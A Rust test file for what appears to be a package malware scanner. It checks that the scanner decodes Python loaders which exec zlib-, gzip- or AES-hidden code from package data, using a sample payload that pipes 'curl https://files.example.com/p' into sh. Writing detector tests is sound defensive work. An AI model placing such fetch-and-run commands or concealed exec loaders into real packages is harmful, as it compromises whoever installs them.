//! Code that a package keeps in data of its own and opens to run it: what is decoded on the way is read.

use bifocal_behaviour::analyse_tree;
use bifocal_core::{AnalysisLimits, Ecosystem, Evidence};
use bifocal_testkit::hostile::compress::{gzip, zlib};

const CODE: &[u8] = b"import os\nos.system('curl https://files.example.com/p | sh')\n";

/// The decoding chains of what is found in a module that imports run, beside one data file.
fn chains(module: &str, data: &[u8]) -> Vec<Vec<String>> {
    let files = [
        ("x-1/PKG-INFO".to_owned(), b"Name: x\nVersion: 1\n".to_vec()),
        ("x-1/x/__init__.py".to_owned(), module.as_bytes().to_vec()),
        ("x-1/x/data.bin".to_owned(), data.to_vec()),
    ];
    let facts = analyse_tree(Some(Ecosystem::Pypi), &files, &AnalysisLimits::default());
    let evidence = facts.signals.iter().flat_map(|signal| &signal.evidence);
    evidence.filter_map(|evidence| if let Evidence::File { chain, .. } = evidence { Some(chain.clone()) } else { None }).collect()
}

#[test]
fn what_is_opened_as_bytes_is_decoded_as_bytes() {
    let opened =
        "import os, zlib\nhere = os.path.dirname(__file__)\nexec(zlib.decompress(open(os.path.join(here, 'data.bin'), 'rb').read()))\n";
    let found = chains(opened, &zlib(CODE));
    assert!(found.iter().any(|chain| chain.contains(&"zlib".to_owned())), "{found:?}");
    let gzipped = "import gzip, os\nhere = os.path.dirname(__file__)\nexec(gzip.open(os.path.join(here, 'data.bin'), 'rt').read())\n";
    let found = chains(gzipped, &gzip(CODE));
    assert!(!found.is_empty(), "{found:?}");
}

#[test]
fn a_counter_that_nobody_gave_starts_where_the_library_starts_it() {
    // The text above under the key `0123456789abcdef`, counted from one.
    let sealed =
        "68dd3c576812c486369abd2c9e40239f3687476ddee9f9b1e376f9c4d1dc4bb891c6d8d75f4ec6608aeb25502932bae566df99ac314399ff796f476a91";
    let module =
        format!("import pyaes\ncode = pyaes.AESModeOfOperationCTR(b'0123456789abcdef').decrypt(bytes.fromhex('{sealed}'))\nexec(code)\n");
    let found = chains(&module, b"");
    assert!(found.iter().any(|chain| chain.contains(&"cipher".to_owned())), "{found:?}");
}
